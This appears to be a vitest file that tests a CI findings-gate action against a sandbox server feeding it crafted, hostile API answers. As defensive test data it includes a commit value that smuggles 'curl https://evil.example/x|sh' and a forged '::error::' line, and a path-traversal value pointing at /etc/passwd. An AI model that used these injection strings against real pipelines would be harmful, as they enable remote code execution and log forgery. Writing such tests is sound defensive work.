// Where two sources disagree, the stricter one wins (issue 26): each defect a hostile-server review
// found, run through the built action against a sandbox whose answers are rewritten to the crafted
// form. Each test fails on the build from before the fix (dist of 88644c7).
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { datasetOf, type FindingInput } from '../sandbox/data.ts';
import type { Sandbox } from '../sandbox/server.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { annotations, expectErrorRun, expectWellBehaved, gate, logLines, rendered, sandbox } from './support.ts';

const PROJECT = 'acme/api';
const quiet = { projects: PROJECT, 'fail-on-valid-secrets': 'false' };
type Item = Record<string, unknown>;
const DAY = 86_400_000;

/** The findings of a list answer, to rewrite. */
const findingsOf = (body: unknown): Item[] => (body as { findings: Item[] }).findings;
const onePage = (query: Record<string, string[]>): boolean => query.page?.[0] === '0';

/** Rewrites each findings-list answer of code findings with `edit` (the sandbox's own answer in, the crafted one out). */
function rewriteCode(sb: Sandbox, edit: (findings: Item[]) => Item[]): void {
  sb.inject('findings', {
    kind: 'rewrite',
    apply: (body, { query }) =>
      query.issue_type?.[0] === 'sast' && query.status?.[0] === 'open' && onePage(query) ? { findings: edit(findingsOf(body)) } : body,
  });
}

/** A night with one high finding (its report file: the baseline), then a day with two. */
async function nightThenDay(dayFindings: FindingInput[] = []): Promise<{ sb: Sandbox; baseline: string }> {
  const night: FindingInput[] = [{ project: PROJECT, severity: 'high', ruleId: 'rules.known' }];
  const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings: night }) });
  const nightly = await gate(sb, { ...quiet, 'fail-on-severity': 'none' });
  expect(JSON.parse(nightly.reportText ?? '{}').findingIds).toHaveLength(1);
  const baseline = join(await temporaryFolder('findings-gate-trust-'), 'baseline.json');
  await writeFile(baseline, nightly.reportText ?? '');
  const day: FindingInput[] = [...night, { project: PROJECT, severity: 'high', ruleId: 'rules.new-today' }, ...dayFindings];
  sb.setDataset(datasetOf({ projects: [PROJECT], findings: day }));
  return { sb, baseline };
}

describe.concurrent('exact "new" never drops what it cannot classify', () => {
  for (const severity of ['error', 'crit', undefined]) {
    it(`a new finding of severity ${JSON.stringify(severity)} beside a rise of the report's high count is new, never "No new findings"`, async () => {
      const { sb, baseline } = await nightThenDay();
      rewriteCode(sb, (findings) =>
        findings.map((f) => {
          if ((f.rule as Item).name !== 'rules.new-today') return f;
          const { severity: _, ...rest } = f;
          return severity === undefined ? rest : { ...rest, severity };
        }),
      );
      const run = await gate(sb, { ...quiet, 'baseline-file': baseline, 'gate-on': 'new' });
      expectWellBehaved(run, sb.tokens.demo);
      // The report counts 2 high; the list names 1 high and 1 it cannot read, counted as critical (the strict side).
      expect(run.outputs).toMatchObject({ result: 'fail', high: '2', critical: '1', 'new-high': '1', 'new-critical': '1' });
      const summary = rendered(run.summary);
      expect(summary).not.toContain('No new findings');
      expect(summary).toContain('a severity the gate cannot read');
    });
  }

  it('a new finding that reuses a known match_based_id is new: a repeat beyond the baseline’s own count', async () => {
    const { sb, baseline } = await nightThenDay();
    rewriteCode(sb, (findings) => {
      const known = findings.find((f) => (f.rule as Item).name === 'rules.known')?.match_based_id;
      return findings.map((f) => ((f.rule as Item).name === 'rules.new-today' ? { ...f, match_based_id: known } : f));
    });
    const run = await gate(sb, { ...quiet, 'baseline-file': baseline, 'gate-on': 'new' });
    expect(run.outputs).toMatchObject({ result: 'fail', 'new-high': '1' });
    expect(rendered(run.summary)).toContain('1 listed finding repeats a match_based_id');
  });

  it('a list that names the known finding twice and not the new one: the report’s rise stands', async () => {
    const { sb, baseline } = await nightThenDay();
    rewriteCode(sb, (findings) => {
      const known = findings.find((f) => (f.rule as Item).name === 'rules.known') as Item;
      return [known, known];
    });
    const run = await gate(sb, { ...quiet, 'baseline-file': baseline, 'gate-on': 'new' });
    expect(run.outputs).toMatchObject({ result: 'fail', high: '2', 'new-high': '1' });
    expect(rendered(run.summary)).toContain(`${PROJECT} code.high: the report counts 2, the list names 1`);
  });

  /** The night's finding fixed and a new one in its place: the counts do not rise (attack13 H1, L2). */
  async function swapped(): Promise<{ sb: Sandbox; baseline: string }> {
    const { sb, baseline } = await nightThenDay();
    sb.setDataset(datasetOf({ projects: [PROJECT], findings: [{ project: PROJECT, severity: 'high', ruleId: 'rules.new-today' }] }));
    return { sb, baseline };
  }

  it('a fix beside a new finding listed without match_based_id: the new one may be new, and counts as new (attack13 H1: a pass before)', async () => {
    const { sb, baseline } = await swapped();
    rewriteCode(sb, (findings) => findings.map(({ match_based_id: _, ...rest }) => rest));
    const run = await gate(sb, { ...quiet, 'baseline-file': baseline, 'gate-on': 'new' });
    expectWellBehaved(run, sb.tokens.demo);
    expect(run.code, run.stdout).toBe(1);
    expect(run.outputs).toMatchObject({ result: 'fail', high: '1', 'new-high': '1' });
    const summary = rendered(run.summary);
    expect(summary).not.toContain('No new findings');
    expect(summary).toContain('1 listed finding has no match_based_id (counted as new)');
  });

  it('list-findings false against a baseline of ids: a pass on the counts alone is the settings’ error, never softened (attack13 L2); a rise still fails', async () => {
    const { sb, baseline } = await swapped();
    const run = await gate(sb, { ...quiet, 'baseline-file': baseline, 'gate-on': 'new', 'list-findings': 'false', 'on-api-error': 'warn' });
    expectWellBehaved(run, sb.tokens.demo);
    // The settings' error fails the job (exit 1 in the action, 2 on the command line), whatever on-api-error says.
    expect(run.code, run.stdout).toBe(1);
    expect(run.outputs).toMatchObject({ result: 'error' });
    expect(run.stdout).toMatch(
      /^::error::findings-gate could not decide: Input 'list-findings' is false, and gate-on is new against a baseline that holds finding ids/m,
    );
    sb.setDataset(
      datasetOf({
        projects: [PROJECT],
        findings: [
          { project: PROJECT, severity: 'high', ruleId: 'rules.known' },
          { project: PROJECT, severity: 'high', ruleId: 'rules.new-today' },
        ],
      }),
    );
    const risen = await gate(sb, { ...quiet, 'baseline-file': baseline, 'gate-on': 'new', 'list-findings': 'false' });
    expect(risen.code, risen.stdout).toBe(1);
    expect(risen.outputs).toMatchObject({ result: 'fail', 'new-high': '1' });
  });

  it('a new finding without match_based_id gives its real reason, not a cut list', async () => {
    const { sb, baseline } = await nightThenDay();
    rewriteCode(sb, (findings) =>
      findings.map((f) => {
        if ((f.rule as Item).name !== 'rules.new-today') return f;
        const { match_based_id: _, ...rest } = f;
        return rest;
      }),
    );
    const run = await gate(sb, { ...quiet, 'baseline-file': baseline, 'gate-on': 'new' });
    expect(run.outputs).toMatchObject({ result: 'fail', 'new-high': '1' });
    const summary = rendered(run.summary);
    expect(summary).toContain('1 listed finding has no match_based_id');
    expect(summary).not.toContain('10,000');
  });
});

describe.concurrent('the report and the list, both ways', () => {
  it('the report says 0 and the list names 3 high findings of the project: the 3 fail the gate, with both numbers', async () => {
    const findings: FindingInput[] = [1, 2, 3].map((n) => ({ project: PROJECT, severity: 'high', ruleId: `rules.r${n}` }));
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings }) });
    sb.inject('report', { kind: 'rewrite', apply: () => ({ byProject: { [PROJECT]: { projectId: '101' } } }) });
    const run = await gate(sb, quiet);
    expectWellBehaved(run, sb.tokens.demo);
    expect(run.outputs).toMatchObject({ result: 'fail', high: '3' });
    const summary = rendered(run.summary);
    expect(summary).toContain('- high: 3 > 0 (fail-on-severity high)');
    expect(summary).toContain(`${PROJECT} code.high: the report counts 0, the list names 3`);
    expect(annotations(run, 'warning').some((w) => w.startsWith('The report and the findings list disagree in 1 cell'))).toBe(true);
  });
});

describe.concurrent('deadlines: an age the gate cannot know is never within the deadline', () => {
  const old = (n: number): FindingInput => ({
    project: PROJECT,
    severity: 'critical',
    ruleId: `rules.c${n}`,
    createdAt: new Date(Date.now() - DAY).toISOString(),
  });
  const deadlines = { ...quiet, 'fail-on-severity': 'none', 'max-open-age': 'critical=7d' };

  it('the report counts 2 critical findings, the list names 1 opened yesterday: the other is of unknown age, past its deadline', async () => {
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings: [old(1), old(2)] }) });
    rewriteCode(sb, (findings) => findings.slice(0, 1));
    const run = await gate(sb, deadlines);
    expect(run.outputs).toMatchObject({ result: 'fail', overdue: '1' });
    expect(annotations(run, 'error')[0]).toContain(
      '1 critical finding of unknown age, counted past 7 days (age unknown: 1 counted by the report but not listed)',
    );
  });

  const crafted: [string, (f: Item) => Item][] = [
    ['a severity it cannot read', (f) => ({ ...f, severity: 'crit' })],
    ['a relevant_since in the future', (f) => ({ ...f, relevant_since: '2099-01-01 00:00:00+00:00' })],
    [
      'a created_at in the future, no relevant_since',
      (f) => ({ ...f, relevant_since: undefined, created_at: '2099-01-01 00:00:00+00:00' }),
    ],
    ['no date at all', (f) => ({ ...f, relevant_since: undefined, created_at: undefined })],
    [
      'triage_state provisionally_ignored (a suggestion, not a decision)',
      (f) => ({ ...f, relevant_since: '2020-01-01 00:00:00+00:00', triage_state: 'provisionally_ignored' }),
    ],
  ];
  for (const [what, edit] of crafted) {
    it(`a critical finding with ${what} fails max-open-age`, async () => {
      const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings: [old(1)] }) });
      rewriteCode(sb, (findings) => findings.map(edit));
      const run = await gate(sb, deadlines);
      expectWellBehaved(run, sb.tokens.demo);
      expect(run.outputs).toMatchObject({ result: 'fail', overdue: '1' });
    });
  }

  it('a triaged finding (ignored) has no deadline; the summary names the age unknown of the others', async () => {
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings: [old(1)] }) });
    rewriteCode(sb, (findings) => findings.map((f) => ({ ...f, relevant_since: '2020-01-01 00:00:00+00:00', triage_state: 'ignored' })));
    const run = await gate(sb, deadlines);
    expect(run.outputs).toMatchObject({ result: 'pass', overdue: '0' });
  });
});

describe.concurrent('the findings list', () => {
  it('a later page of the AI list that fails (404) is an API error, never a list dropped without a word', async () => {
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings: [] }) });
    const ai = (i: number): Item => ({ id: 90_000 + i, severity: 'low', rule: { name: `ai.r${i}` }, repository: { name: PROJECT } });
    sb.inject('findings', {
      kind: 'rewrite',
      apply: (body, { query }) =>
        query.issue_type?.[0] === 'ai_sast' && onePage(query) ? { findings: Array.from({ length: 3000 }, (_, i) => ai(i)) } : body,
    });
    sb.inject('findings', { kind: 'status', status: 404, when: ({ query }) => query.issue_type?.[0] === 'ai_sast' && !onePage(query) });
    const run = await gate(sb, { ...quiet, 'fail-on-severity': 'none' });
    expectErrorRun(run, 'fail', /^findings: page [1-4] answered HTTP 404 after page 0 had answered, so the list cannot be read whole/);
  });

  it('the same full page for every page number: the server is not paging, said so, in a handful of requests', async () => {
    const findings: FindingInput[] = Array.from({ length: 3000 }, (_, i) => ({ project: PROJECT, severity: 'low', ruleId: `r${i}` }));
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings }) });
    // Every page number answers with page 0's findings.
    let pageZero: Item[] = [];
    sb.inject('findings', {
      kind: 'rewrite',
      apply: (body, { query }) => {
        if (query.issue_type?.[0] !== 'sast' || query.status?.[0] !== 'open') return body; // the open walk (issue 40 reads the other states apart)
        if (onePage(query)) pageZero = findingsOf(body);
        return { findings: pageZero };
      },
    });
    const run = await gate(sb, { ...quiet, 'fail-on-severity': 'none' });
    expectErrorRun(
      run,
      'fail',
      /^findings: the API sent a malformed response: page 1 holds only items of earlier pages: the server is not paging/,
    );
    expect(sb.requests.filter((r) => r.route === 'findings' && r.query.status?.[0] === 'open').length).toBeLessThan(20);
  });

  it('new findings forever run into the page cap and end with an error that says so', async () => {
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings: [] }) });
    sb.inject('findings', {
      kind: 'rewrite',
      apply: (body, { query }) => {
        if (query.issue_type?.[0] !== 'sast' || query.status?.[0] !== 'open') return body; // the open walk (issue 40 reads the other states apart)
        const page = Number(query.page?.[0] ?? 0);
        return {
          findings: Array.from({ length: 3000 }, (_, i) => ({
            id: page * 3000 + i,
            severity: 'low',
            rule: { name: 'r' },
            repository: { name: PROJECT },
          })),
        };
      },
    });
    const run = await gate(sb, { ...quiet, 'fail-on-severity': 'none' }, { FINDINGS_GATE_MAX_PAGES: '30' });
    expectErrorRun(run, 'fail', /^findings: the list is longer than 30 pages; stopped rather than report a truncated list/);
  });

  it('sends the report filters it can apply (confidence, rule ids, categories) to the list: a finding outside them fails nothing', async () => {
    const findings: FindingInput[] = [
      {
        project: PROJECT,
        severity: 'critical',
        confidence: 'high',
        ruleId: 'rules.high',
        createdAt: new Date(Date.now() - DAY).toISOString(),
      },
      { project: PROJECT, severity: 'critical', confidence: 'medium', ruleId: 'rules.medium', createdAt: '2020-01-01T00:00:00.000Z' },
    ];
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings }) });
    const run = await gate(sb, { ...quiet, 'fail-on-severity': 'none', confidence: 'high', 'max-open-age': 'critical=7d' });
    expect(run.outputs).toMatchObject({ result: 'pass', critical: '1', overdue: '0' });
    expect(sb.requests.find((r) => r.route === 'findings' && r.query.issue_type?.[0] === 'sast')?.query.confidence).toEqual(['high']);
  });

  it('a filter the list cannot apply: the deadlines say so, and judge the findings outside it too', async () => {
    const findings: FindingInput[] = [
      { project: PROJECT, severity: 'critical', ruleId: 'rules.x', createdAt: '2020-01-01T00:00:00.000Z', teams: ['other'] },
    ];
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings }) });
    const run = await gate(sb, { ...quiet, 'fail-on-severity': 'none', teams: 'platform', 'max-open-age': 'critical=7d' });
    expect(run.outputs.result).toBe('fail');
    expect(annotations(run, 'error')[0]).toContain('the findings list cannot apply teams, so findings outside that filter are judged too');
  });

  it('annotations and SARIF take no path out of the repository and no absurd line', async () => {
    const sb = await sandbox({
      dataset: datasetOf({ projects: [PROJECT], findings: [{ project: PROJECT, severity: 'high', ruleId: 'rules.x' }] }),
    });
    rewriteCode(sb, (findings) => findings.map((f) => ({ ...f, location: { file_path: '../../../../etc/passwd', line: 99_999_999_999 } })));
    const sarif = join(await temporaryFolder('findings-gate-paths-'), 'results.sarif');
    const run = await gate(sb, { ...quiet, 'fail-on-severity': 'none', 'sarif-file': sarif }, { GITHUB_REPOSITORY: PROJECT });
    expectWellBehaved(run, sb.tokens.demo);
    const notices = run.stdout.split('\n').filter((line) => line.startsWith('::notice') && line.includes('Semgrep code finding'));
    expect(notices).toHaveLength(1);
    expect(notices[0]).not.toContain('file=');
    expect(notices[0]).not.toContain('line=');
    const log = JSON.parse(await readFile(sarif, 'utf8'));
    expect(log.runs[0].results).toEqual([]);
  });
});

describe.concurrent('freshness', () => {
  const fresh = {
    project: PROJECT,
    commit: 'abcdef1234567890abcdef1234567890abcdef12',
    startedMinutesAgo: 30,
    durationSeconds: 60,
    status: 'SCAN_STATUS_COMPLETED' as const,
  };

  it('projects: * checks every project of the deployment, those with no findings too', async () => {
    const sb = await sandbox({
      dataset: datasetOf({
        reportOmitsEmptyProjects: true,
        projects: [PROJECT, 'acme/quiet'],
        findings: [{ project: PROJECT, severity: 'low' }],
        scans: [fresh, { ...fresh, project: 'acme/quiet', startedMinutesAgo: 3 * 1440 }],
      }),
    });
    const run = await gate(sb, { projects: '*', 'fail-on-severity': 'none', 'fail-on-valid-secrets': 'false', 'scan-max-age': '1d' });
    expectErrorRun(run, 'fail', /^scan-max-age: the newest completed scan of "acme\/quiet" \(\d+\) is 3 days old/);
  });

  it('a completeTime in the future is not "0 min ago": its age is unknown', async () => {
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], scans: [fresh] }) });
    sb.inject('scans', {
      kind: 'rewrite',
      apply: (body) => ({
        ...(body as Item),
        scans: ((body as Item).scans as Item[]).map((s) => ({ ...s, completeTime: '2099-01-01T00:00:00Z' })),
      }),
    });
    const run = await gate(sb, { ...quiet, 'scan-max-age': '1h' });
    expectErrorRun(
      run,
      'fail',
      /^scan-max-age: the age of the newest completed scan of "acme\/api" \(\d+\) is unknown: its time is in the future/,
    );
  });

  it('compares exact times: a scan 32.5 minutes old fails scan-max-age 30m', async () => {
    const sb = await sandbox({
      dataset: datasetOf({ projects: [PROJECT], scans: [{ ...fresh, startedMinutesAgo: 33, durationSeconds: 30 }] }),
    });
    const run = await gate(sb, { ...quiet, 'scan-max-age': '30m' });
    expectErrorRun(run, 'fail', /^scan-max-age: the newest completed scan of "acme\/api" \(\d+\) is 33 min old/);
  });

  it('scans whose items name another project do not count', async () => {
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], scans: [fresh] }) });
    sb.inject('scans', {
      kind: 'rewrite',
      apply: (body) => ({ ...(body as Item), scans: ((body as Item).scans as Item[]).map((s) => ({ ...s, projectId: '202' })) }),
    });
    const run = await gate(sb, { ...quiet, 'scan-max-age': '1h' });
    expectErrorRun(run, 'fail', /^scan-max-age: "acme\/api" has no completed scan in the past 30 days/);
  });

  it('a commit that is not a sha never reaches an output, the summary or the log', async () => {
    const hostile = 'abcdef1$(curl https://evil.example/x|sh)\n::error::pwned';
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], scans: [fresh] }) });
    sb.inject('scans', {
      kind: 'rewrite',
      apply: (body) => ({ ...(body as Item), scans: ((body as Item).scans as Item[]).map((s) => ({ ...s, commit: hostile })) }),
    });
    const run = await gate(sb, { ...quiet, 'fail-on-severity': 'none' });
    expectWellBehaved(run, sb.tokens.demo);
    expect(run.outputs['scan-commit']).toBeUndefined();
    expect(run.written).not.toContain('curl');
  });

  it('wait-for-scan matches a full sha exactly, a short one as a prefix, and the summary shows the full sha it matched', async () => {
    const commit = 'abcdef1234567890abcdef1234567890abcdef12';
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], scans: [{ ...fresh, commit: `${commit}99` }] }) });
    const env = { FINDINGS_GATE_SCAN_POLL_MIN_MS: '50', FINDINGS_GATE_SCAN_POLL_MAX_MS: '50' };
    const full = await gate(sb, { ...quiet, 'wait-for-scan': commit, 'timeout-seconds': '2' }, env);
    expectErrorRun(full, 'fail', /^wait-for-scan: no completed scan of abcdef1 for acme\/api/);
    const short = await gate(sb, { ...quiet, 'fail-on-severity': 'none', 'wait-for-scan': 'abcdef1' }, env);
    expect(short.outputs.result).toBe('pass');
    expect(rendered(short.summary)).toContain(`commit <code>${commit}99</code>`);
  });
});

describe.concurrent('on-api-error: warn softens only what the API did', () => {
  for (const fault of [{ status: 503 }, { status: 404 }, { garbage: true }] as const) {
    it(`an unknown project fails whatever the suggestions call does (${JSON.stringify(fault)})`, async () => {
      const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT] }) });
      const suggestions = ({ body }: { body?: unknown }) => (body as { filter?: { names?: unknown } })?.filter?.names === undefined;
      sb.inject(
        'projects',
        'garbage' in fault
          ? { kind: 'rewrite', apply: (body, request) => (suggestions(request) ? { projects: 'none' } : body) }
          : { kind: 'status', status: fault.status, when: suggestions },
      );
      const run = await gate(sb, { projects: 'acme/apii', 'on-api-error': 'warn' }, { FINDINGS_GATE_RETRY_MIN_DELAY_MS: '1' });
      expect(run.code).toBe(1);
      expect(annotations(run, 'error')[0]).toMatch(/^findings-gate could not decide: projects: no project named "acme\/apii"/);
    });
  }

  it('wait-for-scan with a scans list that answers 404 fails under warn, as scan-max-age does', async () => {
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT] }) });
    sb.inject('scans', { kind: 'status', status: 404 });
    const run = await gate(sb, { ...quiet, 'wait-for-scan': 'abcdef1', 'on-api-error': 'warn' });
    expect(run.code).toBe(1);
    expect(annotations(run, 'error')[0]).toMatch(/^findings-gate could not decide: wait-for-scan: the scans list is not available/);
  });
});

describe('memory and time, whatever the server sends', () => {
  const MiB = 1024 * 1024;

  it('an endless scans list of new scans keeps only the newest scans and ends at the page cap', async () => {
    const projects = ['acme/a', 'acme/b'];
    const sb = await sandbox({ dataset: datasetOf({ projects }) });
    sb.inject('scans', {
      kind: 'rewrite',
      apply: (_body, { body }) => {
        const page = Number((body as { cursor?: string }).cursor ?? 0);
        const scans = Array.from({ length: 500 }, (_, i) => ({
          id: String(page * 500 + i + 1),
          status: 'SCAN_STATUS_COMPLETED',
          commit: 'abcdef1234567890abcdef1234567890abcdef12',
          startTime: new Date(Date.now() - (page * 500 + i) * 1000).toISOString(),
        }));
        return { scans, cursor: String(page + 1) };
      },
    });
    const { runAction } = await import('../support/runner.ts');
    const run = await runAction({
      inputs: {
        'api-token': sb.tokens.demo,
        'base-url': sb.url,
        projects: projects.join(','),
        'scan-max-age': '1d',
        'fail-on-severity': 'none',
      },
      killAfterMs: 60_000,
    });
    expect(run.signal).toBeNull();
    expectErrorRun(run, 'fail', /^scans: the list is longer than 100 pages; stopped rather than report a truncated list/);
    if (run.peakRssBytes !== undefined) expect(run.peakRssBytes).toBeLessThan(250 * MiB);
  }, 90_000);

  it('10,000 findings with 30 KB paths and a SARIF file: every kept field is cut at 4 KiB, and the run decides in bounded memory', async () => {
    const findings: FindingInput[] = Array.from({ length: 10_000 }, (_, i) => ({ project: PROJECT, severity: 'low', ruleId: `r${i}` }));
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT], findings }) });
    const long = `src/${'x'.repeat(30_000)}.ts`;
    sb.inject('findings', {
      kind: 'rewrite',
      apply: (body, { query }) =>
        query.issue_type?.[0] === 'sast'
          ? { findings: findingsOf(body).map((f) => ({ ...f, location: { ...(f.location as Item), file_path: long } })) }
          : body,
    });
    const sarif = join(await temporaryFolder('findings-gate-long-'), 'results.sarif');
    const { runAction } = await import('../support/runner.ts');
    const run = await runAction({
      inputs: { 'api-token': sb.tokens.demo, 'base-url': sb.url, ...quiet, 'fail-on-severity': 'none', 'sarif-file': sarif },
      env: { GITHUB_REPOSITORY: PROJECT },
      killAfterMs: 60_000,
    });
    expectWellBehaved(run, sb.tokens.demo);
    expect(run.outputs).toMatchObject({ result: 'pass', low: '10000' });
    const log = JSON.parse(await readFile(sarif, 'utf8'));
    const uris = (log.runs[0].results as { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[]).map(
      (r) => r.locations[0]?.physicalLocation.artifactLocation.uri ?? '',
    );
    expect(uris).toHaveLength(10_000);
    expect(Math.max(...uris.map((uri) => uri.length))).toBeLessThan(4200);
    // The pages themselves are 60 MB each and pass through; what is kept no longer grows with them
    // (the build before kept every path whole: 1.8 GiB here, and "Invalid string length" at 60 KB), and
    // pages that large are read one ahead, not four (379-458 MiB here with four; issue 37's bound).
    if (run.peakRssBytes !== undefined) {
      console.log(`peak RSS, 10,000 findings with 30 KB paths: ${Math.round(run.peakRssBytes / MiB)} MiB`);
      expect(run.peakRssBytes).toBeLessThan(400 * MiB);
    }
  }, 90_000);
});

describe('past the budget of kept text, what is kept still names its repository and its file (attack5 F5)', () => {
  it('2,500 findings with long rule names and 1 KB paths, then confirmed-valid secrets: each one in SARIF at its whole path, each secret annotated, nothing said left out', async () => {
    const repository = 'acme/payments-api-backend-service'; // longer than a cut field (32 characters)
    const rule = (i: number) => `rules.r${i}.${'x'.repeat(3000)}`;
    const findings: FindingInput[] = Array.from({ length: 2500 }, (_, i) => ({ project: repository, severity: 'high', ruleId: rule(i) }));
    const secrets = Array.from({ length: 5 }, (_, i) => ({ repository, findingPath: `config/s${i}.env:3` }));
    const sb = await sandbox({ dataset: datasetOf({ projects: [repository], findings, secrets }) });
    // 7.5 MB of rule names spend the run's 6 MiB budget; the secrets answer after them, so they are kept past it.
    const pad = 'm'.repeat(1000);
    sb.inject('findings', {
      kind: 'rewrite',
      apply: (body) => ({
        findings: findingsOf(body).map((f) => ({ ...f, location: { ...(f.location as Item), file_path: `src/${pad}${f.id}.ts` } })),
      }),
    });
    sb.inject('secrets', { kind: 'latency', ms: 2000 });
    const sarif = join(await temporaryFolder('findings-gate-kept-'), 'results.sarif');
    const run = await gate(sb, { projects: repository, 'sarif-file': sarif }, { GITHUB_REPOSITORY: repository });
    expectWellBehaved(run, sb.tokens.demo);
    expect(run.outputs).toMatchObject({ result: 'fail', high: '2505', 'valid-secrets': '5' });
    const results = JSON.parse(await readFile(sarif, 'utf8')).runs[0].results as {
      ruleId: string;
      locations: { physicalLocation: { artifactLocation: { uri: string } } }[];
    }[];
    const uris = results.map((r) => r.locations[0]?.physicalLocation.artifactLocation.uri ?? '');
    // The build before cut the repository's name of what was kept past the budget: 1,039 findings and the 5
    // secrets were left out as "of other repositories" (code scanning would close their alerts), and the rest pointed at cut paths.
    expect(results).toHaveLength(2505);
    expect(uris.filter((uri) => uri.startsWith('src/')).every((uri) => uri.length > 1000 && !uri.includes('%E2%80%A6'))).toBe(true);
    expect(uris.filter((uri) => uri.startsWith('config/'))).toHaveLength(5);
    expect(run.stdout).toMatch(/^SARIF: 2505 results \(confirmed-valid secrets and findings\) written to .*results\.sarif$/m);
    const secretAnnotations = run.stdout.split('\n').filter((line) => line.startsWith('::error title=Confirmed-valid secret'));
    expect(secretAnnotations).toHaveLength(5);
  }, 60_000);
});

describe('result is written last', () => {
  it('a run whose SARIF path is a FIFO keeps its decided verdict: the file is refused with a warning, never a hang (issue 37: a decided verdict is final)', async () => {
    const { execFileSync } = await import('node:child_process');
    const dir = await temporaryFolder('findings-gate-fifo-');
    const fifo = join(dir, 'results.sarif');
    execFileSync('mkfifo', [fifo]);
    const sb = await sandbox({ dataset: datasetOf({ projects: [PROJECT] }) });
    const { runAction } = await import('../support/runner.ts');
    const run = await runAction({
      inputs: { 'api-token': sb.tokens.demo, 'base-url': sb.url, ...quiet, 'fail-on-severity': 'none', 'sarif-file': fifo },
      env: { FINDINGS_GATE_PUBLISH_TIMEOUT_MS: '500' },
      killAfterMs: 20_000,
    });
    // Before, the run hung on the FIFO until killed, with no result; the gate writes only regular files, and the decided verdict is the run's.
    expect(run.signal).toBeNull();
    expect(run.code).toBe(0);
    expect(run.outputs.total).toBe('0');
    expect(run.outputs.result).toBe('pass');
    expect(logLines(run).some((line) => line.startsWith('findings-gate: pass'))).toBe(true);
    expect(run.stdout).toMatch(/::warning::.*SARIF/i);
  });
});
